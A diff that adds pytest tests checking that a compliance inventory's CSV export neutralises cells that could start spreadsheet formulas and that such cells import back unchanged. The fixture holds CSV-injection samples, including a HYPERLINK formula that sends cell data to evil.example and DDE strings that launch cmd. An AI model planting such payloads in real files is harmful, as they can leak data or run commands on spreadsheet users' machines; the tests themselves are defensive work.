@@ -116,6 +116,69 @@ def test_export_then_import_changes_nothing(inventory, carol, agency_a, ctx):
     assert systems_export_csv(ctx=fta) == exported
 
 
+FORMULAS = {
+    "name": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+    "component": "+cmd|' /C calc'!A0",
+    "system_owner": "-2+3",
+    "authorizing_official": "@SUM(1+1)*cmd|' /C calc'!A0",
+}
+
+
+def test_export_neutralises_cells_that_would_start_a_formula(inventory, carol, agency_a, ctx):
+    for field, value in FORMULAS.items():
+        setattr(inventory, field, value)
+    inventory.host_patterns = ["=1+1", "web-*.store.example.gov"]
+    inventory.k8s_clusters = ["\tprod-east"]
+    inventory.k8s_namespaces = ["\rstore"]
+    inventory.image_repositories = ["'=already quoted"]
+    inventory.save()
+    exported = systems_export_csv(ctx=ctx(carol, agency_a))
+    rows = list(csv.DictReader(io.StringIO(exported, newline="")))  # a cell holds a CR
+    web = rows[1]
+    for field, value in FORMULAS.items():
+        assert web[field] == "'" + value, field
+    assert web["host_patterns"] == "'=1+1;web-*.store.example.gov"
+    assert web["k8s_clusters"] == "'\tprod-east"
+    assert web["k8s_namespaces"] == "'\rstore"
+    assert web["image_repositories"] == "''=already quoted"
+    for row in rows:
+        for column, cell in row.items():
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
+
+
+def test_an_export_with_formula_cells_imports_back_unchanged(inventory, carol, agency_a, ctx):
+    fta = ctx(carol, agency_a)
+    for field, value in FORMULAS.items():
+        setattr(inventory, field, value)
+    inventory.host_patterns = ["=1+1", "-web-*"]
+    inventory.image_repositories = ["'=already quoted"]
+    inventory.save()
+    exported = systems_export_csv(ctx=fta)
+    before = list(InformationSystem.objects.order_by("pk").values())
+    result = systems_file_import(upload(exported), ctx=fta)
+    assert (result.created, result.updated, result.unchanged) == (0, 0, 2)
+    assert list(InformationSystem.objects.order_by("pk").values()) == before
+    assert systems_export_csv(ctx=fta) == exported
+
+
+@pytest.mark.parametrize(
+    "value", ["", "'", "''", "=", "'=", "''-1", "a=b", "'s-Hertogenbosch", "@x", "\t", "+"]
+)
+def test_csv_cells_read_back_as_written(value):
+    from compliance.tabular import csv_cell, csv_uncell
+
+    assert csv_uncell(csv_cell(value)) == value
+    assert not csv_cell(value).startswith(("=", "+", "-", "@", "\t", "\r"))
+
+
+def test_a_quote_before_a_formula_character_is_read_as_the_spreadsheets(carol, agency_a, ctx):
+    text = "acronym,name,confidentiality,integrity,availability,system_owner\n"
+    text += "FTA-Q,'=Quoted,low,low,low,'Brien\n"
+    systems_file_import(upload(text), ctx=ctx(carol, agency_a))
+    system = InformationSystem.objects.get(acronym="FTA-Q")
+    assert (system.name, system.system_owner) == ("=Quoted", "'Brien")
+
+
 def test_import_creates_updates_and_assigns_isso(inventory, carol, dave, agency_a, ctx):
     fta = ctx(carol, agency_a)
     rows = rows_of(systems_export_csv(ctx=fta))
